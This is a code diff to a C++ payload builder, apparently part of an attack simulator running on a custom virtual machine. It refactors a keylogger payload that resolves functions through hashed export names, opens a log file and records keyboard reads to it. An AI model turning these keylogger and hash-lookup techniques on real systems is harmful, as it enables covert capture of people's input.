@@ -6,6 +6,13 @@
 
 namespace faros::attacks {
 
+namespace {
+
+constexpr u32 kComputeIters = 96;  // rounds of each compute loop
+constexpr u32 kKeystrokes = 3;     // keyboard reads the keylogger logs
+
+}  // namespace
+
 using os::Sys;
 using vm::Assembler;
 using vm::Reg;
@@ -17,31 +24,24 @@ Result<Bytes> build_payload(const PayloadSpec& spec) {
   a.push(Reg::LR);
 
   switch (spec.action) {
-    case PayloadAction::kMessageBox: {
+    case PayloadAction::kMessageBox:
+    case PayloadAction::kKeylogger: {
       emit_export_walk(a, "mb", fnv1a32(os::sym::kUser32),
                        fnv1a32(os::sym::kMessageBox));
       a.mov(Reg::R9, Reg::R0);
       a.addpc_label(Reg::R1, "msg");
       a.movi(Reg::R2, static_cast<u32>(spec.message.size()));
       a.callr(Reg::R9);
-      break;
-    }
-    case PayloadAction::kKeylogger: {
-      emit_export_walk(a, "kl", fnv1a32(os::sym::kUser32),
-                       fnv1a32(os::sym::kMessageBox));
-      a.mov(Reg::R9, Reg::R0);
-      a.addpc_label(Reg::R1, "msg");
-      a.movi(Reg::R2, static_cast<u32>(spec.message.size()));
-      a.callr(Reg::R9);
+      if (spec.action == PayloadAction::kMessageBox) break;
       // Open (create) the log file.
       a.addpc_label(Reg::R1, "logpath");
       emit_sys(a, Sys::kNtCreateFile);
       a.mov(Reg::R8, Reg::R0);
-      // Capture `keystrokes` keyboard reads into the log.
+      // Capture kKeystrokes keyboard reads into the log.
       a.addpc_label(Reg::R12, "kbuf");
       a.movi(Reg::R11, 0);
       a.label("klog_loop");
-      a.cmpi(Reg::R11, static_cast<i32>(spec.keystrokes));
+      a.cmpi(Reg::R11, static_cast<i32>(kKeystrokes));
       a.bgeu("klog_done");
       a.movi(Reg::R1, static_cast<u32>(os::DeviceId::kKeyboard));
       a.mov(Reg::R2, Reg::R12);
@@ -62,7 +62,7 @@ Result<Bytes> build_payload(const PayloadSpec& spec) {
       a.movi(Reg::R6, 7);
       a.movi(Reg::R11, 0);
       a.label("c_loop");
-      a.cmpi(Reg::R11, static_cast<i32>(spec.compute_iters));
+      a.cmpi(Reg::R11, static_cast<i32>(kComputeIters));
       a.bgeu("c_done");
       a.mul(Reg::R7, Reg::R5, Reg::R6);
       a.add(Reg::R5, Reg::R7, Reg::R6);
@@ -87,7 +87,7 @@ Result<Bytes> build_payload(const PayloadSpec& spec) {
       // "lc_" is the export walk's label namespace (it defines lc_done);
       // the compute loop gets its own prefix.
       a.label("lcc_loop");
-      a.cmpi(Reg::R11, static_cast<i32>(spec.compute_iters));
+      a.cmpi(Reg::R11, static_cast<i32>(kComputeIters));
       a.bgeu("lcc_done");
       a.muli(Reg::R5, Reg::R5, 17);
       a.addi(Reg::R5, Reg::R5, 29);
@@ -99,12 +99,8 @@ Result<Bytes> build_payload(const PayloadSpec& spec) {
   }
 
   auto emit_data = [&]() {
-    a.align(8);
-    a.label("msg");
-    a.data_str(spec.message, /*nul_terminate=*/false);
-    a.align(8);
-    a.label("logpath");
-    a.data_str(spec.log_path);
+    emit_data_str(a, "msg", spec.message, /*nul_terminate=*/false);
+    emit_data_str(a, "logpath", "C:/Temp/keys.log");
     a.align(8);
     a.label("kbuf");
     a.zeros(16);
